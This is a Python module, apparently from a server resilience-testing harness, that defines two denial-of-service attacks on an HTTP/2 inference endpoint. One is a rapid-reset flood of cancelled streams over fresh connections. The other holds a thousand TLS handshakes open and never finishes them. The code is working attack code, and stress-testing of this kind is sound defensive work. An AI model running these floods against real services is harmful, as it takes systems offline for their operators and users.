"""Connections that are opened to no good. The normal client comes from the same address."""

import contextlib
import select
import socket
import ssl
import struct
import time

from measure import INFERENCE, Attack, trusting
from raw_http2 import CANCEL, PREFACE, RST_STREAM, SETTINGS, Connection, frame


def resets(address, end):
    """100 new connections a second, each with 480 calls that are begun and taken back at once; a connection's limit is 500."""
    host, port = address.rsplit(":", 1)
    maker, data = Connection.__new__(Connection), PREFACE + frame(SETTINGS, 0, 0)
    maker.next_stream, maker.answers = 1, {}
    for _ in range(480):
        stream, begin = maker.headers_of(INFERENCE + "Encode")
        data += begin + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
    opened, due = [], time.monotonic()
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            one = socket.create_connection((host, int(port)), timeout=1)
            opened.append(one)
            one.sendall(data)
        while len(opened) > 100:
            opened.pop(0).close()
        due += 0.01
        time.sleep(max(due - time.monotonic(), 0))
    for one in opened:
        one.close()


def client_hello():
    sent = ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        trusting().wrap_bio(ssl.MemoryBIO(), sent).do_handshake()
    return sent.read()


def unfinished_handshakes(address, end):
    """1,000 connections at a time that begin TLS and say nothing more; another one follows each that is ended."""
    host, port = address.rsplit(":", 1)
    hello, poll, opened = client_hello(), select.poll(), {}
    while time.monotonic() < end:
        while len(opened) < 1000 and time.monotonic() < end:
            with contextlib.suppress(OSError):
                one = socket.create_connection((host, int(port)), timeout=1)
                one.sendall(hello)
                opened[one.fileno()] = one
                poll.register(one, select.POLLIN)
        for number, _ in poll.poll(50):
            try:
                ended = not opened[number].recv(1 << 16)
            except OSError:
                ended = True
            if ended:
                poll.unregister(number)
                opened.pop(number).close()
    for one in opened.values():
        one.close()


ATTACKS = (
    Attack("resets over fresh connections", resets, same_address=True),
    Attack("unfinished handshakes", unfinished_handshakes, in_tls=True, same_address=True),
)
